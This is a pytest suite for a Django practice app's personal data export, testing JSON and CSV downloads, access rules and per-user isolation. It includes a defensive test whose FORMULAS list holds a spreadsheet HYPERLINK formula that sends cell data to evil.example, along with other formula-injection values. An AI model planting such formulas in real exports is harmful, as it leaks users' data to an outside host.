import csv
import io
import json
import re
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.selectors import EXPORT_KINDS, EXPORTED_MODELS, export_kinds, user_relations
from moderation.models import ImportRow
from moderation.services import import_job_create
from practice.mock import services as mock_services
from practice.models import Answer, PracticeSession
from progress.services import review_schedule_from_grade
from questions.models import Question
from tests.exercises.factories import CodeSubmissionFactory
from tests.factories import CategoryFactory, GradeFactory, LevelFactory, QuestionFactory, SessionQuestionFactory
from tests.practice.test_mock_loops import make_loop

pytestmark = pytest.mark.usefixtures("fast_password_hashing")

JSON_URL = reverse("accounts:data_export_json")


def csv_url(kind: str) -> str:
    return reverse("accounts:data_export_csv", args=[kind])


# django_session, auth_user, the user's and groups' permissions (is the user an instructor?), the profile,
# sessions with their questions and those questions (3), answers with grades, review cards, card reviews,
# checklist ticks, mock loops, take-home attempts, grade disputes.
def json_queries() -> int:
    return 2 + 2 + 1 + 3 + 1 + 1 + 1 + 1 + 1 + 1 + 1


def assert_rows_have_the_declared_columns(data: dict) -> None:
    """The CSV header of an empty kind is its declared columns: every row of the kind must have exactly those."""
    for kind in EXPORT_KINDS.keys() & data.keys():
        assert all(list(row) == list(EXPORT_KINDS[kind].columns) for row in data[kind]), kind


@pytest.mark.parametrize("url", [JSON_URL, csv_url("answers")])
def test_it_rejects_post_put_and_delete(candidate_client, url, django_assert_num_queries):
    for method in (candidate_client.post, candidate_client.put, candidate_client.delete):
        with django_assert_num_queries(2):
            response = method(url)
        assert response.status_code == 405


@pytest.mark.parametrize("url", [JSON_URL, csv_url("answers")])
def test_it_sends_an_anonymous_visitor_to_log_in(client, db, url, django_assert_num_queries):
    with django_assert_num_queries(0):
        response = client.get(url)

    assert response.status_code == 302 and response.url == f"{reverse('accounts:login')}?next={url}"


def test_the_json_export_holds_everything_of_mine(candidate_client, candidate, cell, history,
                                                  django_assert_num_queries):
    with django_assert_num_queries(json_queries()):
        response = candidate_client.get(JSON_URL)

    assert response.status_code == 200 and response["Content-Type"] == "application/json"
    assert response["Content-Disposition"].startswith(f'attachment; filename="playbook-{candidate.username}-all-')
    data = json.loads(response.content)
    assert data["account"]["username"] == candidate.username
    assert data["progress_profile"] == {"target_role_track": cell["role_track"].key}
    assert {s["session_id"] for s in data["sessions"]} == {g.answer.session_question.session_id for g in history}
    assert len(data["sessions"][0]["question_keys"]) == 2
    (first, second) = data["answers"]
    assert first["text"] == history[0].answer.text and first["overall"] == "2.5"
    assert first["rubric_verdicts"] == history[0].items and first["question_key"] == cell["questions"][0].key
    assert [card["question_key"] for card in data["review_cards"]] == [q.key for q in cell["questions"][:2]]
    assert data["review_cards"][0]["fsrs_card"]["state"] == 2
    assert {r["answer_id"] for r in data["card_reviews"]} == {first["answer_id"], second["answer_id"]}
    assert set(export_kinds(user=candidate)) <= set(data) and "imports" not in data
    assert_rows_have_the_declared_columns(data)


def test_the_json_export_costs_the_same_queries_with_more_data_and_never_holds_anothers(
    candidate_client, candidate, other_candidate, cell, history, django_assert_num_queries
):
    for question in cell["questions"]:
        GradeFactory(answer__session_question=SessionQuestionFactory(session__user=candidate, question=question))
    theirs = GradeFactory(answer__session_question=SessionQuestionFactory(session__user=other_candidate),
                          answer__text="Someone else's secret answer")

    with django_assert_num_queries(json_queries()):
        response = candidate_client.get(JSON_URL)

    assert len(json.loads(response.content)["answers"]) == 5
    assert theirs.answer.text.encode() not in response.content
    assert str(theirs.answer.question.key).encode() not in response.content


UTC_TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}\+00:00")


def test_files_are_named_by_the_readers_date_and_json_and_csv_write_times_alike(candidate_client, candidate, history,
                                                                                monkeypatch):
    # 02:46 UTC is still the day before in Los Angeles.
    moment = timezone.now().replace(hour=2, minute=46, second=0, microsecond=0)
    monkeypatch.setattr(timezone, "now", lambda: moment)
    candidate_client.cookies["tz"] = "America/Los_Angeles"
    local_day = f"{moment - timedelta(days=1):%Y%m%d}"

    json_response = candidate_client.get(JSON_URL)
    csv_response = candidate_client.get(csv_url("answers"))

    name = f"playbook-{candidate.username}"
    assert json_response["Content-Disposition"] == f'attachment; filename="{name}-all-{local_day}.json"'
    assert csv_response["Content-Disposition"] == f'attachment; filename="{name}-answers-{local_day}.csv"'
    data = json.loads(json_response.content)
    assert data["exported_at"] == f"{moment:%Y-%m-%d}T02:46:00.000000+00:00"
    json_times = [answer["submitted_at"] for answer in data["answers"]]
    assert json_times == [row["submitted_at"] for row in csv_rows(csv_response)]
    assert all(UTC_TIME.fullmatch(time) for time in json_times)
    assert json_times[0] == history[0].answer.submitted_at.isoformat(timespec="microseconds")


def test_the_answers_csv_has_a_row_per_answer_with_its_grade(candidate_client, candidate, history,
                                                             django_assert_num_queries):
    with django_assert_num_queries(2 + 2 + 1):
        response = candidate_client.get(csv_url("answers"))

    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(f'attachment; filename="playbook-{candidate.username}-answers-')
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [int(row["answer_id"]) for row in rows] == [g.answer_id for g in history]
    assert rows[0]["overall"] == "2.5" and rows[0]["status"] == Answer.Status.GRADED
    assert json.loads(rows[0]["rubric_verdicts"]) == history[0].items


def test_an_exercise_answer_exports_its_code_and_test_results_at_no_extra_query(
    candidate_client, candidate, history, django_assert_num_queries
):
    submission = CodeSubmissionFactory(answer=GradeFactory(answer__session_question=SessionQuestionFactory(
        session__user=candidate)).answer, code="def add(a, b):\n    return b + a  # =cmd\n", hidden_passed=1)

    with django_assert_num_queries(json_queries()):
        response = candidate_client.get(JSON_URL)

    answers = {row["answer_id"]: row for row in json.loads(response.content)["answers"]}
    exercise_row, prose_row = answers[submission.answer_id], answers[history[0].answer_id]
    assert exercise_row["code"] == submission.code
    assert (exercise_row["hidden_tests_passed"], exercise_row["hidden_tests_total"]) == (1, 2)
    assert exercise_row["test_results"]["hidden"][0] == {"name": "test_negative", "passed": True, "message": ""}
    assert (prose_row["code"], prose_row["hidden_tests_passed"], prose_row["test_results"]) == ("", None, {})

    rows = {int(row["answer_id"]): row for row in csv_rows(candidate_client.get(csv_url("answers")))}
    exercise_csv = rows[submission.answer_id]
    assert exercise_csv["code"] == submission.code and exercise_csv["hidden_tests_total"] == "2"


@pytest.mark.parametrize(("kind", "queries", "rows"), [("sessions", 3, 2), ("review_cards", 1, 2),
                                                       ("card_reviews", 1, 2)])
def test_each_named_kind_exports_as_csv(candidate_client, history, kind, queries, rows, django_assert_num_queries):
    with django_assert_num_queries(2 + 2 + queries):
        response = candidate_client.get(csv_url(kind))

    assert len(list(csv.DictReader(io.StringIO(response.content.decode())))) == rows


def test_a_kind_with_no_records_exports_its_header_so_a_spreadsheet_opens_it_as_a_table(
    candidate_client, django_assert_num_queries
):
    with django_assert_num_queries(2 + 2 + 1):
        response = candidate_client.get(csv_url("grade_disputes"))

    reader = csv.DictReader(io.StringIO(response.content.decode()))
    assert response.status_code == 200 and list(reader) == []
    assert reader.fieldnames == ["answer_id", "question_key", "reason", "filed_at", "grader_score", "staff_score",
                                 "staff_note", "resolved_at", "score_when_resolved", "score_changed_at"]


def test_every_table_referring_to_a_user_is_exported_under_a_plain_name():
    assert {model for model, _ in user_relations()} == EXPORTED_MODELS
    assert all("." not in kind for kind in EXPORT_KINDS)


@pytest.mark.parametrize("kind", ["admin.logentry", "imports", "hand_grades", "banks", "practice.practicesession"])
def test_a_candidate_has_no_staff_instructor_or_internal_kinds(candidate_client, kind, django_assert_num_queries):
    with django_assert_num_queries(2 + 2):
        response = candidate_client.get(csv_url(kind))

    assert response.status_code == 404


def test_an_unknown_kind_is_not_found(candidate_client, django_assert_num_queries):
    with django_assert_num_queries(2 + 2):
        response = candidate_client.get(csv_url("passwords"))

    assert response.status_code == 404


FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_a_spreadsheet_would_run_as_a_formula_are_neutralised(candidate_client, candidate, cell, formula):
    question = cell["questions"][0]
    Question.objects.filter(pk=question.pk).update(title=formula)
    item = SessionQuestionFactory(session__user=candidate, question=question)
    grade = GradeFactory(answer__session_question=item, answer__text=formula, feedback=formula, overall="3.0")
    review_schedule_from_grade(grade_id=grade.pk)

    (answer,) = csv_rows(candidate_client.get(csv_url("answers")))
    (card,) = csv_rows(candidate_client.get(csv_url("review_cards")))

    for value in (answer["question_title"], answer["text"], answer["feedback"], card["question_title"]):
        assert value == "'" + formula
    assert answer["overall"] == "3.0"  # numbers are never formulas: written as they are


def test_an_admin_who_uploaded_an_import_gets_the_json_and_csv_exports_without_the_file(client, admin_user):
    job = import_job_create(filename="=reddit.csv", data=b"text\nHow do you evaluate a RAG system?\n",
                            uploaded_by=admin_user)
    ImportRow.objects.create(job=job, row_number=2, outcome=ImportRow.Outcome.IMPORTED, text="How?")
    ImportRow.objects.create(job=job, row_number=3, outcome=ImportRow.Outcome.DUPLICATE, text="How?")
    client.force_login(admin_user)

    response = client.get(JSON_URL)

    assert response.status_code == 200
    (upload,) = json.loads(response.content)["imports"]
    assert upload["file_name"] == "=reddit.csv" and upload["size_bytes"] == job.size_bytes
    assert (upload["imported"], upload["duplicates"], upload["errors"]) == (1, 1, 0)
    assert b"How do you evaluate" not in response.content and "content" not in upload
    assert_rows_have_the_declared_columns(json.loads(response.content))

    response = client.get(csv_url("imports"))

    (row,) = csv_rows(response)
    assert response.status_code == 200 and row["file_name"] == "'=reddit.csv" and row["imported"] == "1"
    assert "b'" not in response.content.decode()
    for kind in export_kinds(user=admin_user):
        assert client.get(csv_url(kind)).status_code == 200


def test_my_grade_disputes_export_with_the_staff_decision_and_never_anothers(candidate_client, history,
                                                                            other_candidate, django_assert_num_queries):
    from practice.models import GradeDispute

    GradeDispute.objects.create(grade=history[0], reason="My answer names both.", staff_score="4.5",
                                staff_note="Agreed.", resolved_at="2026-12-06T12:00:00Z")
    GradeDispute.objects.create(grade=GradeFactory(answer__session_question__session__user=other_candidate),
                                reason="Someone else's reason")

    with django_assert_num_queries(2 + 2 + 1):
        response = candidate_client.get(csv_url("grade_disputes"))

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(row["reason"], row["staff_score"], row["staff_note"]) for row in rows] == [
        ("My answer names both.", "4.5", "Agreed.")]


def test_an_ended_mock_loop_and_a_bank_sessions_title_are_in_the_export(candidate_client, candidate):
    senior = LevelFactory(key="senior", name="Senior")
    rag = CategoryFactory(key="llm-rag", name="LLM & RAG")
    QuestionFactory.create_batch(2, category=rag, levels=[senior])
    mock = mock_services.mock_loop_start(user=candidate, loop=make_loop([[rag]]), level=senior)
    mock_services.mock_loop_end(mock=mock)
    PracticeSession.objects.filter(user=candidate).update(label="Bank: Week one")

    data = json.loads(candidate_client.get(JSON_URL).content)

    mock.refresh_from_db()
    assert [loop["ended_at"][:19] for loop in data["mock_loops"]] == [mock.ended_at.strftime("%Y-%m-%dT%H:%M:%S")]
    assert {session["label"] for session in data["sessions"]} == {"Bank: Week one"}
